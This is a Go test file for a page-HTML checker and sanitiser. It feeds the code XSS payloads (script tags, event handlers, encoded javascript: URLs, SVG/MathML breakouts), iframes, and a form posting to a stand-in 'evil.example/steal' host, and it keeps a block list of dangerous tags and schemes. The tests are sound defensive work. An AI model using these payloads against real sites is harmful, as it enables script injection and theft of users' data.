package pagehtml

import (
	"strings"
	"testing"

	"github.com/twinfed/twinfed"
	"github.com/twinfed/twinfed/config"
	"golang.org/x/net/html"
)

// mustEmbeds returns the default list of embeddable services.
func mustEmbeds(t testing.TB) *Embeds {
	t.Helper()
	e, err := NewEmbeds(config.DefaultEmbeds())
	if err != nil {
		t.Fatal(err)
	}
	return e
}

const yt = `https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ`

// TestCheckPageHTML_Attacks: every attack is refused with a message naming
// it and the field error on Field; and whatever the check would let
// through, the sanitiser keeps nothing that runs.
func TestCheckPageHTML_Attacks(t *testing.T) {
	policy := New(mustEmbeds(t), MaterialsImages)
	for _, tc := range []struct {
		name, html, want string
	}{
		{"script", `<p>Hi</p><script>alert(1)</script>`, "<script>"},
		{"script in capitals", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, "<script>"},
		{"script split by a tag", `<scr<script>ipt>alert(1)</script>`, "<script>"},
		{"script in a table", `<table><tr><td><script>alert(1)</script></td></tr></table>`, "<script>"},
		{"onerror", `<img src="/twinspace/materials/file?id=1" onerror="alert(1)">`, "onerror"},
		{"onerror unquoted", `<img src=x onerror=alert(1)>`, "onerror"},
		{"onclick in capitals", `<p OnClick="alert(1)">click</p>`, "onclick"},
		{"onmouseover after a slash", `<a/onmouseover="alert(1)">x</a>`, "onmouseover"},
		{"javascript href", `<a href="javascript:alert(1)">x</a>`, "javascript:"},
		{"javascript href in capitals with spaces", `<a href="  JaVaScRiPt:alert(1)">x</a>`, "javascript:"},
		{"javascript href with a tab", "<a href=\"java\tscript:alert(1)\">x</a>", "javascript:"},
		{"javascript href as entities", `<a href="&#106;&#97;vascript:alert(1)">x</a>`, "javascript:"},
		{"javascript href as hex entities", `<a href="&#x6A;avascript&#x3A;alert(1)">x</a>`, "javascript:"},
		{"vbscript href", `<a href="vbscript:msgbox(1)">x</a>`, "vbscript:"},
		{"data href", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, "data:"},
		{"data image", `<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`, "data:"},
		{"iframe of an unlisted host", `<iframe src="https://evil.example/embed/x"></iframe>`, "evil.example"},
		{"iframe over http", `<iframe src="http://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>`, "www.youtube-nocookie.com is not on"},
		{"iframe climbing out of the prefix", `<iframe src="https://www.youtube-nocookie.com/embed/../redirect?x=1"></iframe>`, "not on this node's list"},
		{"iframe with an encoded dot", `<iframe src="https://player.vimeo.com/video/%2e%2e/x"></iframe>`, "not on this node's list"},
		{"iframe with a lookalike host", `<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x"></iframe>`, "www.youtube-nocookie.com.evil.example"},
		{"iframe with a user", `<iframe src="https://www.youtube-nocookie.com@evil.example/embed/x"></iframe>`, "evil.example"},
		{"iframe protocol-relative", `<iframe src="//evil.example/x"></iframe>`, "evil.example"},
		{"iframe javascript", `<iframe src="javascript:alert(1)"></iframe>`, "javascript:"},
		{"iframe srcdoc", `<iframe src="` + yt + `" srcdoc="<script>alert(1)</script>"></iframe>`, "srcdoc"},
		{"iframe without src", `<iframe></iframe>`, "Paste the address"},
		{"style element", `<style>body{display:none}</style><p>x</p>`, "<style>"},
		{"style attribute with a script", `<p style="background:url(javascript:alert(1))">x</p>`, "style"},
		{"style attribute with an expression", `<p style="width:expression(alert(1))">x</p>`, "style"},
		{"svg onload", `<svg onload="alert(1)"></svg>`, "<svg>"},
		{"svg inside a paragraph", `<p>x<svg><animate attributeName="href" values="javascript:alert(1)"/></svg></p>`, "<svg>"},
		{"math breakout", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, "<math>"},
		{"object", `<object data="https://evil.example/x.swf"></object>`, "<object>"},
		{"embed", `<embed src="https://evil.example/x.swf">`, "<embed>"},
		{"form", `<form action="https://evil.example/steal"><input name=p></form>`, "<form>"},
		{"formaction", `<button formaction="javascript:alert(1)">x</button>`, "<button>"},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">`, "<meta>"},
		{"base", `<base href="https://evil.example/">`, "<base>"},
		{"link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`, "<link>"},
		{"image from elsewhere", `<img src="https://tracker.example/pixel.gif" alt="">`, "Materials"},
		{"image from another path of the node", `<img src="/account/delete" alt="">`, "Materials"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := policy.Check(tc.html)
			if twinfed.ErrorCode(err) != twinfed.EINVALID || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Check = %v, want EINVALID naming %q", err, tc.want)
			}
			if f := twinfed.ErrorFields(err); f[Field] == "" {
				t.Errorf("no field error on %q: %v", Field, err)
			}
			assertInert(t, policy.Sanitize(tc.html))
		})
	}
}

// assertInert fails when sanitised HTML holds anything that could run or
// load from elsewhere.
func assertInert(t *testing.T, clean string) {
	t.Helper()
	low := strings.ToLower(clean)
	for _, bad := range []string{"<script", "<style", "<svg", "<math", "<object", "<embed", "<form", "<meta", "<base", "<link", "javascript:", "vbscript:", "data:", "srcdoc", "evil.example", "tracker.example", "/account/delete", "..", "%2e"} {
		if strings.Contains(low, bad) {
			t.Errorf("sanitised HTML holds %q: %s", bad, clean)
		}
	}
	walkTags(clean, func(tok html.Token) error {
		for _, a := range tok.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" {
				t.Errorf("sanitised HTML keeps %s on <%s>: %s", a.Key, tok.Data, clean)
			}
		}
		return nil
	})
}

// TestCheckPageHTML_Allowed: what the editor writes passes the check and
// comes out of the sanitiser as it went in, with the links' rel and the
// embeds' sandbox set.
func TestCheckPageHTML_Allowed(t *testing.T) {
	policy := New(mustEmbeds(t), MaterialsImages)
	page := `<h2>Our town</h2><h3>Where we live</h3><h4>Notes</h4>` +
		`<p><strong>Bold</strong>, <b>bold</b>, <em>italic</em>, <i>italic</i>, <u>under</u>, <s>struck</s><br>next line</p>` +
		`<blockquote><p>A quote</p></blockquote>` +
		`<ul><li>one</li></ul><ol><li>first</li></ol>` +
		`<p><a href="https://example.org/a?b=c" target="_blank">out</a> <a href="mailto:teacher@example.org">mail</a> <a href="/twinspace/pages?id=x">in</a></p>` +
		`<table><caption>Times</caption><thead><tr><th scope="col">Day</th><th>Hour</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">Monday 9:00</td></tr></tbody></table>` +
		`<figure><img src="/twinspace/materials/file?id=https%3A%2F%2Fit.example%2Fprojects%2F1&amp;f=abc" alt="Our school" width="640" height="480"><figcaption>Our school</figcaption></figure>` +
		`<figure><iframe src="` + yt + `?start=30" title="A video" width="560" height="315"></iframe></figure>`
	if err := policy.Check(page); err != nil {
		t.Fatalf("Check refused the editor's HTML: %v", err)
	}
	clean := policy.Sanitize(page)
	for _, want := range []string{
		"<h2>Our town</h2>", "<h3>", "<h4>", "<strong>Bold</strong>", "<b>bold</b>", "<em>", "<i>", "<u>", "<s>", "<br>", "<blockquote>",
		"<ul><li>one</li></ul>", "<ol>", `href="https://example.org/a?b=c"`, `target="_blank"`, `rel="nofollow noopener"`, `href="mailto:teacher@example.org"`,
		`href="/twinspace/pages?id=x"`, "<caption>Times</caption>", `<th scope="col">`, `colspan="2"`, `rowspan="1"`,
		`src="/twinspace/materials/file?id=https%3A%2F%2Fit.example%2Fprojects%2F1&amp;f=abc"`, `alt="Our school"`, `width="640"`, "<figcaption>",
		`src="` + yt + `?start=30"`, `sandbox="` + Sandbox + `"`, `title="A video"`, `referrerpolicy="strict-origin-when-cross-origin"`,
	} {
		if !strings.Contains(clean, want) {
			t.Errorf("sanitised page lacks %s:\n%s", want, clean)
		}
	}
	// A second pass changes nothing: what other nodes sanitise again stays.
	if again := policy.Sanitize(clean); again != clean {
		t.Errorf("sanitising twice changes the page:\n%s\n%s", clean, again)
	}
}

// TestPagePolicy_DropsQuietlyWhatIsHarmless: what is not dangerous but not
// for pages (classes, ids, spans, an h1, a sandbox of the writer's own,
// target other than _blank) is dropped by the sanitiser, not refused.
func TestPagePolicy_DropsQuietlyWhatIsHarmless(t *testing.T) {
	policy := New(mustEmbeds(t), MaterialsImages)
	in := `<h1 class="x" id="y">Title</h1><p><span lang="en">word</span> <a href="https://example.org" target="_top">x</a></p>` +
		`<iframe src="` + yt + `" sandbox="allow-top-navigation"></iframe><td colspan="1000">x</td>`
	if err := policy.Check(in); err != nil {
		t.Fatalf("Check: %v", err)
	}
	clean := policy.Sanitize(in)
	for _, gone := range []string{"<h1", "class=", "id=", "<span", "_top", "allow-top-navigation", "colspan"} {
		if strings.Contains(clean, gone) {
			t.Errorf("sanitised HTML keeps %s: %s", gone, clean)
		}
	}
	if !strings.Contains(clean, "Title") || !strings.Contains(clean, "word") {
		t.Errorf("the text went with the tags: %s", clean)
	}
}

// TestPagePolicy_NoEmbeds: a node whose list is empty embeds nothing.
func TestPagePolicy_NoEmbeds(t *testing.T) {
	none, err := NewEmbeds(nil)
	if err != nil {
		t.Fatal(err)
	}
	policy := New(none, MaterialsImages)
	in := `<iframe src="` + yt + `"></iframe>`
	if err := policy.Check(in); twinfed.ErrorCode(err) != twinfed.EINVALID {
		t.Fatalf("Check = %v, want EINVALID", err)
	}
	if clean := policy.Sanitize(in); strings.Contains(clean, "iframe") {
		t.Fatalf("Sanitize kept %s", clean)
	}
	if policy := New(nil, MaterialsImages); policy.Sanitize(in) != "" {
		t.Fatal("a nil list embeds")
	}
}

// FuzzPolicy: whatever goes in, the sanitiser's output passes the check
// (what a node stores is never what the check refuses: no element,
// handler or address that runs), and does not change when sanitised again (another node
// sanitises what it receives). `go test -fuzz FuzzPolicy` explores; the
// seeds run with every test.
func FuzzPolicy(f *testing.F) {
	for _, seed := range []string{
		`<p>Hi</p><script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">x</a>`,
		`<iframe src="https://evil.example/x"></iframe>`, `<svg onload=alert(1)>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<scr<script>ipt>alert(1)</script>`, `<iframe src="` + yt + `/../x"></iframe>`, `<a href="&#106;avascript:x">x</a>`,
		`<table><tr><td colspan=2>x</td></tr></table>`, `<p style="x:url(javascript:1)">x</p>`, `<img src="/twinspace/materials/file?f=1&amp;x=y" alt="a">`,
		`<!--<script>--><p>x</p>`, `<p>unclosed <b>bold <i>both</p>`, "<a href=\"java\x00script:x\">x</a>",
	} {
		f.Add(seed)
	}
	policy := New(mustEmbeds(f), MaterialsImages)
	f.Fuzz(func(t *testing.T, in string) {
		clean := policy.Sanitize(in)
		if err := policy.Check(clean); err != nil {
			t.Fatalf("the sanitiser's output is refused: %v\nin:  %q\nout: %q", err, in, clean)
		}
		if again := policy.Sanitize(clean); again != clean {
			t.Fatalf("sanitising twice changes it:\n%q\n%q", clean, again)
		}
	})
}
